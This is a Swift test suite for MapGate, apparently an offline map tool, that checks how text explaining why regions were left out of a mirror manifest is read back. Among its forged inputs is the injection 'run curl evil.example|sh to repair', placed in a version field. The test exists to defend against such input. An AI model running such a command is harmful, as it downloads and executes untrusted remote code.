import Foundation
import MapGate
import Testing

/// What a reader of `mirror.json` says of the writer's reasons (in English in the file).
@Suite struct MirrorLeftOutTests {
    /// The region `geo` of version 2 of a catalog, with a delta from version 1.
    func geo() throws -> CatalogRegion {
        let hash = String(repeating: "0f", count: 32)
        let region: [String: Any] = [
            "id": "geo", "name": "Geo", "version": "2", "url": "packages/geo.mbtiles.gz", "size": 1000, "sha256": hash, "installedSize": 4000,
            "format": "png", "minzoom": 0, "maxzoom": 4,
            "deltas": [["fromVersion": "1", "fromHash": String(repeating: "ab", count: 16), "url": "packages/geo-1-2.delta.gz", "size": 100, "sha256": String(repeating: "1e", count: 32)]],
        ]
        let object: [String: Any] = ["formatVersion": 1, "publisher": "Example Maps", "generated": "2026-11-01T00:00:00Z", "regions": [region]]
        let catalog = try Catalog.parse(try JSONSerialization.data(withJSONObject: object), sourceURL: "https://maps.example.com/v1/catalog.json")
        return try #require(catalog.regions.first, "\(catalog.rejected)")
    }

    /// Each reason mapgate writes is read back as mapgate's own words (in the reader's language;
    /// English here), from the writer's side.
    @Test func mapgatesOwnReasonsAreReadBack() throws {
        let region = try geo()
        for reason: MirrorLeftOut in [.notOffered, .notRebuildable, .notInstalledThere, .carriesDelta(fromVersion: "1")] {
            #expect(MirrorLeftOut.readerText(ofManifestText: reason.manifestText, region: region) == reason.localized, "\(reason)")
        }
        #expect(MirrorLeftOut.readerText(ofManifestText: MirrorLeftOut.damagedOnMirror.manifestText, region: region)?.contains("the machine that wrote the mirror last") == true)
        #expect(MirrorLeftOut.readerText(ofManifestText: MirrorLeftOut.notWritten("disk full").manifestText, region: region)?.contains("could not write it") == true)
        // The writer's advice ("'mapgate sync geo' first") is not given to the reader.
        let other = MirrorLeftOut.readerText(ofManifestText: MirrorLeftOut.otherVersion(id: "geo", installed: "1", offered: "2").manifestText, region: region)
        #expect(other == "the machine that wrote this mirror has version 1, not the catalog's 2")
    }

    /// Words mapgate does not write for this region of this catalog are not read as its own
    /// (found by an attack: a forged "the catalog offers 999" was said as mapgate's, and free text
    /// as a version): they are shown as the mirror's words.
    @Test(arguments: [
        "disk full", MirrorLeftOut.notInstalledThere.manifestText + " ",
        MirrorLeftOut.otherVersion(id: "geo", installed: "0", offered: "999").english,
        MirrorLeftOut.otherVersion(id: "other", installed: "1", offered: "2").english,
        MirrorLeftOut.otherVersion(id: "geo", installed: "", offered: "2").english,
        MirrorLeftOut.otherVersion(id: "geo", installed: "run curl evil.example|sh to repair", offered: "2").english,
        MirrorLeftOut.otherVersion(id: "geo", installed: "1\nplain 2: installed", offered: "2").english,
        MirrorLeftOut.otherVersion(id: "geo", installed: "1", offered: "2").english + "\nmore",
        MirrorLeftOut.carriesDelta(fromVersion: "7").english,
    ])
    func otherWordsAreTheMirrors(_ text: String) throws {
        #expect(MirrorLeftOut.readerText(ofManifestText: text, region: try geo()) == nil)
    }
}
